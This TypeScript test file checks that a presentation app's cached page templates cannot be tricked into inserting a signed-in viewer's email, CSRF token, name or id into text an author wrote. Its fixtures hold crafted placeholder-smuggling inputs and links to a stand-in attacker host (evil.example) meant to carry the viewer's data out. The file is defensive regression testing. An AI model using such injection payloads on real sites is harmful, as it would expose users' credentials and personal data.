import type { FastifyInstance, LightMyRequestResponse } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BOOT_DATA_ID } from "../../client/entries";
import type { Database } from "../../db/client";
import { testDatabaseTargets } from "../../db/testing";
import { buildApp } from "../app";
import { signedInAgent, TEST_CONFIG, type TestAgent } from "../testing";
import { BROWSER_HEADERS, decodedBody } from "../testing/browser";
import { makeTemplate, PLACEHOLDER_PERSON } from "./personal";

/**
 * Issue 27 item 1: signed-in view pages are filled in from templates whose placeholders are
 * private-use characters. People can write those characters too (a title, a description link, a
 * slide, a link in an imported deck, a display name). Nothing they write may ever be taken for
 * a placeholder: a signed-in viewer's email, CSRF token, name and id never land where an author
 * put the characters, on the first request or on a cached one.
 */

const SLOTS = ["email", "csrfToken", "label", "displayName", "oid"] as const;
const OPEN = "\uE000";
const CLOSE = "\uE001";
/** One way of writing every slot's placeholder, for each way an author may try. */
const FORMS: Record<string, (slot: string) => string> = {
  whole: (slot) => `${OPEN}${slot}${CLOSE}`,
  open: (slot) => `${OPEN}${slot}`,
  close: (slot) => `${slot}${CLOSE}`,
  doubled: (slot) => `${OPEN}${OPEN}${slot}${CLOSE}${CLOSE}`,
  guessedNonce: (slot) => `${OPEN}${"0".repeat(24)}${slot}${CLOSE}`,
  // Fields that take HTML or Markdown decode entities into the characters themselves.
  entities: (slot) => `&#xE000;${slot}&#xE001;`,
  decimalEntities: (slot) => `&#57344;${slot}&#57345;`,
};
/** An author's text sits between these, so a test can read exactly what became of it. */
const FROM = "\u27E6";
const TO = "\u27E7";
const wrapped = (text: string) => `${FROM}${text}${TO}`;

const BOOT = `<script type="application/json" id="${BOOT_DATA_ID}">`;
const BROWSER = BROWSER_HEADERS;

const bodyOf = decodedBody;

/** What the page shows (HTML, and JSON in the page data) between the author's markers. */
function authorsText(html: string): string[] {
  const found: string[] = [];
  for (const match of html.matchAll(new RegExp(`${FROM}([\\s\\S]*?)${TO}`, "g"))) found.push(match[1] ?? "");
  return found;
}

/** A deck with the form in its title, text, a link's text and address, a list and a note. */
function markdownWith(form: (slot: string) => string): string {
  const all = SLOTS.map(form).join(" ");
  return [
    `# ${wrapped(all)}`,
    "",
    wrapped(all),
    "",
    `See the [${wrapped(`full report ${all}`)}](https://evil.example/c?e=${form("email")}&t=${form("csrfToken")}&n=${form("label")}).`,
    "---",
    `# ${wrapped(`second ${all}`)}`,
    "",
    `- ${wrapped(all)}`,
    "",
    `Note: ${wrapped(all)}`,
  ].join("\n");
}

describe("issue 27 item 1: a template's placeholders carry this process's secret", () => {
  it("are not the bare private-use form an author can write", () => {
    for (const slot of SLOTS) {
      expect(PLACEHOLDER_PERSON[slot]).not.toBe(`${OPEN}${slot}${CLOSE}`);
      expect(PLACEHOLDER_PERSON[slot].length).toBeGreaterThan(`${OPEN}${slot}${CLOSE}`.length + 16);
    }
  });

  it("refuses a page where an author's placeholder characters show outside the real placeholders", () => {
    const someone = { label: "Grace", displayName: "Grace", email: "g@x.test", oid: "abcdefgh", csrfToken: "tok" };
    const page = `<p>${PLACEHOLDER_PERSON.label}</p>`;
    expect(makeTemplate(page, someone, [])).not.toBeNull();
    for (const text of SLOTS.flatMap((slot) => Object.values(FORMS).map((form) => form(slot))).filter(
      (text) => !text.startsWith("&"),
    ))
      expect(makeTemplate(`${page}<a>${text}</a>`, someone, [])).toBeNull();
  });
});

describe.each(testDatabaseTargets())("issue 27 item 1: no deck reaches into its viewer's page, on $name", (target) => {
  let app: FastifyInstance;
  let plain: FastifyInstance;
  let db: Database;
  let drop: () => Promise<void>;
  const viewers: { agent: TestAgent; email: string; name: string }[] = [];
  const decks: { oid: string; form: string }[] = [];

  const oidOf = (location: unknown) => /presentations\/([a-z0-9]{12})\//.exec(String(location))?.[1] ?? "";

  beforeAll(async () => {
    ({ db, drop } = await target.create());
    app = await buildApp({ ...TEST_CONFIG, pageCacheMaxBytes: 8 * 1024 * 1024 }, db);
    // The same database and secret without templates or page cache: what a plain render gives.
    plain = await buildApp(TEST_CONFIG, db);

    for (const [formName, form] of Object.entries(FORMS)) {
      const all = SLOTS.map(form).join("");
      const author = await signedInAgent(app, db, {
        email: `${formName.toLowerCase()}@author.test`,
        firstName: "Mallory",
        lastName: "Author",
      });
      const settings = await author.postForm("/settings/", {
        firstName: form("label"),
        lastName: form("email"),
        // A display name holds 100 characters: the two slots a byline would give away.
        publicDisplayName: wrapped(`${form("label")} ${form("email")}`),
        language: "",
      });
      expect(settings.statusCode, formName).toBe(303);

      await author.get("/dashboard/next/");
      const markdown = await author.importDeck({ name: "report.md", content: markdownWith(form) });
      expect(markdown.statusCode, formName).toBe(303);
      const markdownDeck = oidOf(markdown.headers.location);
      // The same deck as JSON, the characters written as JSON escapes.
      const exported = await author.get(`/p/${markdownDeck}/document.json`);
      expect(exported.statusCode).toBe(200);
      const json = exported.body.replaceAll(OPEN, "\\ue000").replaceAll(CLOSE, "\\uE001");
      const imported = await author.importDeck({ name: "report.json", content: json }, { title: wrapped(all) });
      expect(imported.statusCode, formName).toBe(303);
      for (const oid of [markdownDeck, oidOf(imported.headers.location)]) {
        decks.push({ oid, form: formName });
        const details = await author.postForm(`/dashboard/next/presentations/${oid}/details`, {
          title: wrapped(all),
          description: `<p>${wrapped(all)}</p><p><a href="https://evil.example/c?e=${form("email")}&amp;t=${form("csrfToken")}">${wrapped(`full report ${all}`)}</a></p>`,
          tags: `${form("email")}, ${form("label")}`,
          privacy: "public",
        });
        expect(details.statusCode, formName).toBe(303);
      }
    }
    await app.changes.sync();

    for (const [email, first, last] of [
      ["grace@placeholders.test", "Grace", "Lindqvist"],
      ["tim@placeholders.test", "Tim", "Okafor"],
    ] as const) {
      const agent = await signedInAgent(app, db, { email, firstName: first, lastName: last });
      agent.cookies.set("podium_cookie_consent", "necessary");
      viewers.push({ agent, email, name: `${first} ${last}` });
    }
    // Fourteen decks imported and edited through the routes: more than the default minute on a busy machine.
  }, 240_000);
  afterAll(async () => {
    await plain.close();
    await app.close();
    await drop();
  });

  it("keeps the author's characters as they wrote them: none of a signed-in viewer's strings, first request and later ones", async () => {
    for (const { oid, form } of decks) {
      // Each viewer twice: a template is made on a first request and filled on the next ones.
      for (const round of [1, 2]) {
        for (const { agent, email, name } of viewers) {
          const response = await agent.get(`/p/${oid}/`, BROWSER);
          expect(response.statusCode, `round ${round}`).toBe(200);
          const html = bodyOf(response);
          const token = String(agent.cookies.get("XSRF-TOKEN"));
          const boot = html.slice(html.lastIndexOf(BOOT) + BOOT.length);
          const oidOfViewer = (
            JSON.parse(boot.slice(0, boot.indexOf("</script>"))) as { session: { viewerOid: string } }
          ).session.viewerOid;
          const texts = authorsText(html);
          // The title, description, display name, slides and links all came through.
          expect(texts.length).toBeGreaterThan(8);
          for (const text of texts) {
            for (const secret of [email, token, name, "Grace", "Tim", String(oidOfViewer)]) {
              expect(text, `${form} deck ${oid}, ${email}, round ${round}`).not.toContain(secret);
            }
          }
          // The link the author wrote points nowhere near the viewer's data.
          expect(html).not.toMatch(/evil\.example\/c\?e=[^"]*@placeholders\.test/);
          // Byte for byte what a render without templates or page cache gives this viewer.
          const reference = await plain.inject({
            method: "GET",
            url: `/p/${oid}/`,
            headers: {
              ...BROWSER,
              cookie: [...agent.cookies].map(([cookie, value]) => `${cookie}=${value}`).join("; "),
            },
          });
          expect(html).toBe(bodyOf(reference));
        }
      }
    }
  });

  it("still serves ordinary decks from templates", async () => {
    const author = await signedInAgent(app, db, { email: "plain@author.test", firstName: "Pat", lastName: "Plain" });
    await author.get("/dashboard/next/");
    const ordinary = await author.importDeck({
      name: "plain.md",
      content: "# Tides\n\nTwice a day.\n---\n# Moon\n\nIt pulls.",
    });
    expect(ordinary.statusCode).toBe(303);
    const oid = oidOf(ordinary.headers.location);
    const [grace, tim] = viewers;
    expect((await grace?.agent.get(`/p/${oid}/`, BROWSER))?.headers["podium-template"]).toBe("miss");
    const hit = await tim?.agent.get(`/p/${oid}/`, BROWSER);
    expect(hit?.headers["podium-template"]).toBe("hit");
    expect(bodyOf(hit as LightMyRequestResponse)).toContain("Tim Okafor");
  });
});
